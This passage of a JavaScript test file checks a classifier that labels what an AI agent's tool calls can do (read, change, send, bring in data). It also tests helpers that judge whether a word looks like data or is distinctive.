    expect(powers(files, { path: '/home/ana/shop/node_modules/x/README.md' })).toBe('reads brings-in')
    expect(powers(files, { path: '/home/ana/Downloads/x' })).toBe('reads brings-in')
    expect(powers(files, { path: '/home/ana/shop/x' })).toBe('reads')
  })

  it('is a written file where a known server is told to write one', () => {
    const shot = judgedTool('browser_take_screenshot', { published: '@playwright/mcp' })
    expect(powers(shot, { filename: 'x.png' })).toContain('changes')
    expect(powers(shot, { type: 'png' })).not.toContain('changes')
  })

  it('includes the people of a service that is changed, unless it is local or vouched for', () => {
    const named = judgedTool('update_row')
    expect(powers(named, { frob: 'x' })).toBe('reads changes sends')
    expect(powers(named, { path: '/home/ana/x' })).toBe('reads changes')
    const closed = { ...named.hints, openWorld: false }
    expect(powers({ ...named, hints: closed }, { frob: 'x' })).toBe('reads changes sends')
    expect(powers({ ...named, hints: { ...closed, readOnly: true }, hintsTrusted: true }, { frob: 'x' })).toBe('reads changes')
    expect(actOf(named, { frob: 'x' }).tells).toBe(false)
  })
})

describe('a word', () => {
  it.each(['a8f5f167f4', '4111111', 'x'.repeat(41)])('looks like data as %s', (word) => expect(looksLikeData(word)).toBe(true))
  it.each(['hello', '2026-11-22', 'utf-8', '20261122', '123456'])('does not look like data as %s', (word) =>
    expect(looksLikeData(word)).toBe(false),
  )
  it.each(['A-1023', '12345', 'ana@x.de', 'x'.repeat(31)])('is distinctive as %s', (word) => expect(distinctive(word)).toBe(true))
  it.each(['2026', 'hello', 'a1', 'x'.repeat(30), '2026-10', '12/23', '09:20', 'v2.14.1', '48.20'])(
    'is not distinctive as %s',
    (word) => expect(distinctive(word)).toBe(false),
  )
})
